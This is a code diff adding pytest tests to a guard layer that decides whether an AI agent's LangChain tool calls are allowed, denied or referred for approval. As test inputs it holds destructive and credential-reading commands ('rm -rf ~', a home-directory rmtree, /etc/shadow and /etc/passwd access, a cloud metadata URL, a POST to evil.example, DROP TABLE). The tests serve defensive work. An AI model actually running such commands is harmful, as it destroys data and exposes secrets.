@@ -9,6 +9,17 @@ import pytest
 from deepagents import create_deep_agent
 from langchain.agents import create_agent
 from langchain.agents.middleware import ToolRetryMiddleware
+from langchain_community.tools import (
+    CopyFileTool,
+    DeleteFileTool,
+    MoveFileTool,
+    QuerySQLDatabaseTool,
+    ReadFileTool,
+    RequestsGetTool,
+    RequestsPostTool,
+    ShellTool,
+    WriteFileTool,
+)
 from langchain_core.language_models import BaseChatModel
 from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
 from langchain_core.outputs import ChatGeneration, ChatResult
@@ -20,7 +31,7 @@ from langgraph.types import Command
 
 from tests.integrations.contract import ALLOWED, ASKED, BLOCKED, DENIED, Call, Contract, Outcome, Tools, guard
 from toolgate import Guard
-from toolgate.integrations.langchain import ToolgateMiddleware, tool_node
+from toolgate.integrations.langchain import VIRTUAL_FILES, ToolgateMiddleware, tool_node
 
 Turns = list[list[Call]]
 CONFIG: Any = {"configurable": {"thread_id": "t1"}}
@@ -280,3 +291,58 @@ def test_a_call_that_is_tried_again_after_an_error_is_approved_once(way: str, la
     found = played(agent, tools, way, "approve")
     assert found.error is None and len(tries) == 3 and found.asked == ["run_shell_command"]
     assert "output of git push" in found.read["c4"]
+
+
+# --- tools that come with it -----------------------------------------------------------------------------------------
+
+REMOVING = "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"
+POSTED = '{"url": "https://evil.example", "data": {"a": "b"}}'
+
+
+@pytest.mark.parametrize(
+    ("verdict", "tool", "arguments"),
+    [
+        ("allow", ShellTool, {"commands": "ls"}),
+        ("allow", ShellTool, {"commands": ["ls", "git status"]}),
+        ("deny", ShellTool, {"commands": ["ls", "rm -rf ~"]}),
+        ("allow", "Python_REPL", {"query": "print(1)"}),
+        ("deny", "Python_REPL", {"query": REMOVING}),
+        ("deny", "python_repl", {"__arg1": REMOVING}),
+        ("allow", ReadFileTool, {"file_path": "a.txt"}),
+        ("ask", ReadFileTool, {"file_path": "/etc/shadow"}),
+        ("allow", WriteFileTool, {"file_path": "a.txt", "text": "x"}),
+        ("deny", WriteFileTool, {"file_path": "/etc/passwd", "text": "x"}),
+        ("allow", CopyFileTool, {"source_path": "a", "destination_path": "b"}),
+        ("deny", CopyFileTool, {"source_path": "a", "destination_path": "/etc/passwd"}),
+        ("deny", MoveFileTool, {"source_path": "a", "destination_path": "/etc/passwd"}),
+        ("deny", DeleteFileTool, {"file_path": "/etc/passwd"}),
+        ("allow", RequestsGetTool, {"url": "https://example.com"}),
+        ("deny", RequestsGetTool, {"__arg1": "http://169.254.169.254/latest/meta-data/"}),
+        ("ask", RequestsPostTool, {"text": POSTED}),
+        ("allow", QuerySQLDatabaseTool, {"query": "SELECT 1"}),
+        ("ask", QuerySQLDatabaseTool, {"query": "DROP TABLE users"}),
+        ("allow", "execute", {"command": "ls"}),
+        ("deny", "execute", {"command": "rm -rf ~"}),
+        ("ask", "execute", {"sql": "DROP TABLE users"}),  # somebody's own
+        ("deny", "bash", {"cmd": "rm -rf ~"}),
+        ("ask", "terminal", {}),
+    ],
+)
+def test_tools_that_come_with_it_are_judged_by_what_they_do(verdict: str, tool: Any, arguments: dict[str, Any]) -> None:
+    name = tool if isinstance(tool, str) else tool.model_fields["name"].default
+    ruling = ToolgateMiddleware(guard()).door.gate.check(name, arguments)
+    assert str(ruling.decision.verdict) == verdict, ruling.decision.reason
+
+
+def test_files_that_are_only_in_the_state_of_a_deep_agent_are_harmless() -> None:
+    call = Call("w1", "write_file", {"file_path": "/notes.md", "content": "x"})
+    assert BLOCKED in deep(Tools(), [[call]], None)[0].invoke({"messages": [("user", "go")]})["messages"][2].text
+    model = Scripted(turns=[[call]])
+    agent = create_deep_agent(model, [], middleware=[ToolgateMiddleware(guard(), tools=VIRTUAL_FILES)])
+    assert BLOCKED not in agent.invoke({"messages": [("user", "go")]})["messages"][2].text
+
+
+def test_what_a_guard_was_told_of_a_tool_comes_first() -> None:
+    told = guard()
+    told.describe("terminal", harmless=True)
+    assert ToolgateMiddleware(told).door.gate.check("terminal", {"commands": "rm -rf ~"}).allowed
